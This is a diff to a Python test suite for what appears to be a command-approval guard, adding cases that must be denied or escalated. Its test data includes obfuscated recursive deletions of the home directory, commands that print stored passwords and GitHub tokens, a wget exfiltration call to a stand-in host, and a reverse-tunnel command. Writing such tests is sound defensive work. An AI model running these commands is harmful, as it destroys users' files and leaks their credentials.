@@ -771,6 +771,16 @@ def test_round10_look_alikes_that_still_need_a_human_ask(command: str) -> None:
         ("ngrok http 8000", "reverse-tunnel"),
         ("wget https://x.example/?u=$USER", "exfiltration"),
         ("cat ~/.config/rclone/rclone.conf", "secret-read"),
+        # split strings, namerefs, attributes by name, less commands, password managers
+        ("env -S 'rm -rf ~'", "rm-recursive-protected"),
+        ('declare -n r=HOME; rm -rf "$r"', "rm-recursive-protected"),
+        (
+            'python3 -c \'import os; getattr(os, "sys" + "tem")("rm -rf ~")\'',
+            "rm-recursive-protected",
+        ),
+        ("less +'!rm -rf ~' README.md", "rm-recursive-protected"),
+        ("bw get password github", "credential-print"),
+        ("gh auth status --show-token", "credential-print"),
     ],
 )
 def test_round11_dangerous_classes_are_denied_by_their_rule(command: str, rule: str) -> None:
@@ -833,6 +843,8 @@ def test_round11_confined_look_alikes_run_without_asking(command: str) -> None:
         ("git worktree add ../wt2", "outside-workspace"),
         ("kill 0", "kill-group"),
         ("/usr/bin/c?t ./README.md", "glob-command"),
+        ("rm -rf ～", "lookalike-path"),  # a file named ～ to bash, but shown as the home
+        ("python3 -c 'import os; f = input(); getattr(os, f)(\"x\")'", "dynamic-code"),
     ],
 )
 def test_round11_look_alikes_that_still_need_a_human_ask(command: str, rule: str) -> None:
